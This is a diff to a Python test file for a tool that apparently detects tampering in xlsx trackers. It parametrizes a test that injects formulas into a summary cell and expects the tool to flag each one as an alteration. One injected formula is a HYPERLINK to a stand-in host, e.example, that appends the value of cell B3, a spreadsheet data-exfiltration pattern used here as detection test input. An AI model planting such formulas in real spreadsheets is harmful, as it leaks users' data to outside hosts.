@@ -259,20 +259,30 @@ def test_forgeries_that_other_programs_would_show(
     assert code in report["counts"], report
 
 
-def test_a_formula_that_was_put_under_a_value_is_an_alteration(desk: CommandLine) -> None:
+@pytest.mark.parametrize(
+    ("formula", "said"),
+    [
+        (b'<f>HYPERLINK("http://e.example/"&amp;B3)</f>', "=hyperlink("),
+        (b"<f>shared</f>", "=shared"),
+        (b'<f t="shared" si="0"/>', "="),
+    ],
+)
+def test_a_formula_that_was_put_under_a_value_is_an_alteration(
+    desk: CommandLine, formula: bytes, said: str
+) -> None:
     (path,) = (desk.folder / "trackers").glob("*P-1.xlsx")
 
     def change(part: bytes) -> bytes:
         text, count = re.subn(
             rb'<c r="B2"( s="\d+") t="inlineStr"><is><t>([^<]*)</t></is></c>',
-            rb'<c r="B2"\1 t="str"><f>HYPERLINK("http://e.example/"&amp;B3)</f><v>\2</v></c>',
+            rb'<c r="B2"\1 t="str">' + formula + rb"<v>\2</v></c>",
             part,
         )
         assert count == 1
         return text
 
-    said = desk("check", repackaged(path, {SUMMARY: change}), code=1).out
-    assert "Summary!B2  the desk issued 'no formula', here stands '=hyperlink(" in said
+    found = desk("check", repackaged(path, {SUMMARY: change}), code=1).out
+    assert f"Summary!B2  the desk issued 'no formula', here stands '{said}" in found
 
 
 def test_a_file_without_its_version_is_compared_all_the_same(desk: CommandLine) -> None:
